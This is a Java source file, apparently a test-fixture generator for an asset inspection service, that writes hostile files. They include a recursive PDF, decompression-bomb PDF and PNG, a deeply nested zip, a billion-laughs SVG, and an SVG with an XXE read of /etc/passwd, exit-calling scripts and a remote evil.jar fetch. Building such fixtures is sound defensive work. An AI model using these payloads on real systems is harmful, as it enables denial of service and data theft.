@@ -1,0 +1,188 @@
+package vn.lantoa.asset.inspection;
+
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.OutputStream;
+import java.io.UncheckedIOException;
+import java.nio.ByteBuffer;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.Arrays;
+import java.util.List;
+import java.util.zip.CRC32;
+import java.util.zip.DeflaterOutputStream;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipOutputStream;
+
+/** Small files that do harm to whoever opens them. Each is valid as far as its format goes. */
+public final class HostileFiles {
+    private HostileFiles() {}
+
+    /** A few kilobytes that take a year: thirty drawings, each made of four times the next. */
+    public static Path hangingPdf(Path directory) {
+        int depth = 30;
+        var objects = pdfHead(stream("", bytes("/F Do")), "/XObject << /F 5 0 R >>");
+        for (int i = 1; i <= depth; i++) {
+            boolean last = i == depth;
+            var next = last ? "" : "/XObject << /F " + (5 + i) + " 0 R >>";
+            var form = "/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << " + next + " >> ";
+            objects.add(stream(form, bytes(last ? "0 0 m" : "/F Do /F Do /F Do /F Do")));
+        }
+        return write(directory.resolve("hanging.pdf"), pdf(objects));
+    }
+
+    /** Half a megabyte that unpacks to one piece of text of half a gigabyte. */
+    public static Path growingPdf(Path directory) {
+        var content = deflated(out -> {
+            out.write('(');
+            repeat(out, bytes("a".repeat(1 << 16)), 1 << 13);
+            out.write(bytes(") Tj"));
+        });
+        var objects = pdfHead(stream("/Filter /FlateDecode ", content), "");
+        return write(directory.resolve("growing.pdf"), pdf(objects));
+    }
+
+    /** A picture of 1.6 billion points in 200 kilobytes. */
+    public static Path hugePng(Path directory, int side) {
+        var lines = deflated(out -> repeat(out, new byte[side / 8 + 1], side));
+        var header = ByteBuffer.allocate(13).putInt(side).putInt(side).put(new byte[] {1, 0, 0, 0, 0});
+        var png = new ByteArrayOutputStream();
+        png.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
+        png.writeBytes(pngChunk("IHDR", header.array()));
+        png.writeBytes(pngChunk("IDAT", lines));
+        png.writeBytes(pngChunk("IEND", new byte[0]));
+        return write(directory.resolve("huge.png"), png.toByteArray());
+    }
+
+    /** A zip in a zip in a zip …, sixty deep. */
+    public static Path nestedZip(Path directory) {
+        var inner = bytes("at the bottom");
+        for (int i = 0; i < 60; i++) inner = zip("inner.zip", inner);
+        return write(directory.resolve("nested.zip"), inner);
+    }
+
+    /** Half a kilobyte of drawing with entities that unfold to a billion words. */
+    public static Path laughingSvg(Path directory) {
+        var text = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY a0 \"ha ha ha \">");
+        for (int i = 1; i < 12; i++)
+            text.append("<!ENTITY a")
+                    .append(i)
+                    .append(" \"")
+                    .append(("&a" + (i - 1) + ";").repeat(10))
+                    .append("\">");
+        text.append("]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&a11;</text></svg>");
+        return write(directory.resolve("laughing.svg"), bytes(text.toString()));
+    }
+
+    /** A drawing that asks for files of this machine and for addresses of the network. */
+    public static Path curiousSvg(Path directory, String address) {
+        var text =
+                """
+                <?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>
+                <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" \
+                width="400" height="300" onload="java.lang.System.exit(9)">
+                <script type="text/ecmascript">java.lang.System.exit(9)</script>
+                <script type="application/java-archive" xlink:href="%1$s/evil.jar"/>
+                <style>@import url(%1$s/style.css); text { font-family: stolen }
+                @font-face { font-family: stolen; src: url(%1$s/font.ttf) }</style>
+                <rect width="400" height="300" fill="green"/>
+                <image xlink:href="%1$s/picture.png" width="100" height="100"/>
+                <image xlink:href="file:///etc/passwd" width="100" height="100"/>
+                <use xlink:href="%1$s/drawing.svg#a"/>
+                <text x="20" y="50">&x;</text></svg>
+                """;
+        return write(directory.resolve("curious.svg"), bytes(text.formatted(address)));
+    }
+
+    private static List<byte[]> pdfHead(byte[] content, String resources) {
+        var page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R /Resources << " + resources
+                + " >> >>";
+        return new ArrayList<>(List.of(
+                bytes("<< /Type /Catalog /Pages 2 0 R >>"),
+                bytes("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
+                bytes(page),
+                content));
+    }
+
+    private static byte[] stream(String dictionary, byte[] content) {
+        var out = new ByteArrayOutputStream();
+        out.writeBytes(bytes("<< " + dictionary + "/Length " + content.length + " >>\nstream\n"));
+        out.writeBytes(content);
+        out.writeBytes(bytes("\nendstream"));
+        return out.toByteArray();
+    }
+
+    private static byte[] pdf(List<byte[]> objects) {
+        var out = new ByteArrayOutputStream();
+        var places = new StringBuilder("0000000000 65535 f \n");
+        out.writeBytes(bytes("%PDF-1.7\n"));
+        for (int i = 0; i < objects.size(); i++) {
+            places.append("%010d 00000 n \n".formatted(out.size()));
+            out.writeBytes(bytes((i + 1) + " 0 obj\n"));
+            out.writeBytes(objects.get(i));
+            out.writeBytes(bytes("\nendobj\n"));
+        }
+        int table = out.size();
+        int size = objects.size() + 1;
+        out.writeBytes(bytes("xref\n0 " + size + "\n" + places));
+        out.writeBytes(bytes("trailer\n<< /Size " + size + " /Root 1 0 R >>\nstartxref\n" + table + "\n%%EOF\n"));
+        return out.toByteArray();
+    }
+
+    private static byte[] pngChunk(String type, byte[] content) {
+        var crc = new CRC32();
+        crc.update(bytes(type));
+        crc.update(content);
+        var chunk = ByteBuffer.allocate(12 + content.length).putInt(content.length);
+        return chunk.put(bytes(type)).put(content).putInt((int) crc.getValue()).array();
+    }
+
+    private static byte[] zip(String name, byte[] content) {
+        return written(out -> {
+            try (var zip = new ZipOutputStream(out)) {
+                zip.putNextEntry(new ZipEntry(name));
+                zip.write(content);
+            }
+        });
+    }
+
+    private static byte[] deflated(Writing writing) {
+        return written(out -> {
+            try (var deflater = new DeflaterOutputStream(out)) {
+                writing.to(deflater);
+            }
+        });
+    }
+
+    private static byte[] written(Writing writing) {
+        var out = new ByteArrayOutputStream();
+        try {
+            writing.to(out);
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+        return out.toByteArray();
+    }
+
+    private static void repeat(OutputStream out, byte[] bytes, int times) throws IOException {
+        for (int i = 0; i < times; i++) out.write(bytes);
+    }
+
+    private static byte[] bytes(String text) {
+        return text.getBytes(StandardCharsets.UTF_8);
+    }
+
+    private static Path write(Path file, byte[] content) {
+        try {
+            return Files.write(file, Arrays.copyOf(content, content.length));
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    private interface Writing {
+        void to(OutputStream out) throws IOException;
+    }
+}
